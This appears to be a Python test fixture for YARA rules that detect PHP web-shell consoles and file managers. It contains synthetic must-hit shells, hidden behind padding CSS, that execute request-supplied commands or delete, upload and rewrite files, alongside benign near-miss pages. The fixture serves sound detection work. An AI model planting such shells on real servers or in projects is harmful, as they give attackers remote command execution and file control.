"""Must-hit / near-miss samples for `signatures/ui_console.yar` (issue 4f).

Small synthetic PHP written for the tests; no corpus excerpts. The consoles sit behind a large
neutral stylesheet so that only the new rules, not the small-file rules, can carry them. The
near-misses are the legitimate look-alikes: a dispatcher whose `$command` names a controller
action, an admin page running a fixed command with probes, and a status page.
"""

from __future__ import annotations

CSS = "".join(f".c{i} {{ margin: {i % 7}px; }}\n" for i in range(700))


def big(body: str) -> bytes:
    """A PHP page whose code follows ~15 KB of inline CSS, the way shell UIs carry their skin."""
    return ("<?php\n?>\n<style>\n" + CSS + "</style>\n<?php\n" + body + "\n").encode()


CONSOLE = big(
    "$dir = isset($_GET['dir']) ? $_GET['dir'] : getcwd();\n"
    "$command = isset($_POST['command']) ? $_POST['command'] : '';\n"
    "echo \"<form method='post'><input name='command'></form>\";\n"
    "if ($command != '') { chdir($dir); exec($command . ' 2>&1', $lines);"
    " echo '<pre>' . implode(\"\\n\", $lines) . '</pre>'; }\n"
)
CONSOLE_BACKTICK = big(
    "$cmd = trim($_REQUEST['cmd']);\n$out = `$cmd`;\n"
    "echo php_uname() . ' ' . get_current_user() . '<pre>' . $out . '</pre>';\n"
)
CONSOLE_NEAR = big(
    "$command = $_GET['command'] ?? 'index';\n"
    "$controller->dispatch($command);\n"
    "exec('git rev-parse HEAD', $rev);\n"
    'echo \'<input name="command" type="hidden">\';\n'
)

PROBED = big(
    "echo php_uname() . ' uid ' . getmyuid() . ' safe_mode ' . ini_get('safe_mode');\n"
    "echo ' disabled: ' . ini_get('disable_functions');\n"
    "$x = $_REQUEST['x'];\nif ($x) { exec($x, $o); echo '<pre>' . join(\"\\n\", $o) . '</pre>'; }\n"
)
PROBED_NEAR = big(
    "echo php_uname() . ' uid ' . getmyuid() . ' safe_mode ' . ini_get('safe_mode');\n"
    "echo ' disabled: ' . ini_get('disable_functions');\n"
    "$p = $_GET['page'] ?? 1;\nexec('uptime', $o); echo '<pre>' . join(\"\\n\", $o) . '</pre>';\n"
)

FILEMAN = big(
    "$path = isset($_GET['path']) ? $_GET['path'] : getcwd();\n"
    "if (isset($_GET['del'])) unlink($path . '/' . $_GET['del']);\n"
    "if (isset($_GET['rd'])) rmdir($path . '/' . $_GET['rd']);\n"
    "if (isset($_POST['mode'])) chmod($path . '/' . $_POST['f'], octdec($_POST['mode']));\n"
    "if (isset($_POST['to'])) rename($path . '/' . $_POST['f'], $path . '/' . $_POST['to']);\n"
    "if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $path . '/x');\n"
    "if (isset($_POST['src'])) file_put_contents($path . '/' . $_POST['f'], $_POST['src']);\n"
    "foreach (scandir($path) as $e) echo \"<a href='?path=$path/$e'>$e</a><br>\";\n"
    "echo '<form method=post><textarea name=src></textarea></form>';\n"
)
FILEMAN_NEAR = big(
    "class MediaBrowser {\n  function show() {\n"
    "    $path = $this->base . '/' . basename($_GET['path'] ?? '');\n"
    "    foreach (scandir($path) as $e) echo \"<a href='?path=$e'>$e</a>\";\n"
    "    unlink($t); rmdir($t); chmod($t, 0644); rename($t, $u); mkdir($t);\n"
    "    echo '<textarea name=caption></textarea>';\n  }\n}\n"
)

# The feed updater of an RSS reader: runs its own PHP binary, lists its cache and reads the
# disable_functions / open_basedir settings, but never runs a command taken from a variable.
FEED_UPDATER_NEAR = big(
    "if (function_enabled('passthru')) passthru(PHP_EXECUTABLE . ' update.php --feed ' . (int) $id);\n"
    "foreach (glob(CACHE_DIR . '/*') as $f) { if (filemtime($f) < time() - 86400) unlink($f); }\n"
    "touch(LOCK_FILE); $feed = $_REQUEST['feed'] ?? 0;\n"
    "$ok = !in_array('passthru', explode(',', ini_get('disable_functions'))) && !ini_get('open_basedir');\n"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_UI_CommandVarConsole", CONSOLE, True),
    ("SPAMGEAR_UI_CommandVarConsole", CONSOLE_BACKTICK, True),
    ("SPAMGEAR_UI_CommandVarConsole", CONSOLE_NEAR, False),
    ("SPAMGEAR_UI_ProbedShortVarConsole", PROBED, True),
    ("SPAMGEAR_UI_ProbedShortVarConsole", PROBED_NEAR, False),
    ("SPAMGEAR_UI_SelfNavFileManager", FILEMAN, True),
    ("SPAMGEAR_UI_SelfNavFileManager", FILEMAN_NEAR, False),
    ("SPAMGEAR_SHELLUI_CommandFileManager", FEED_UPDATER_NEAR, False),
]
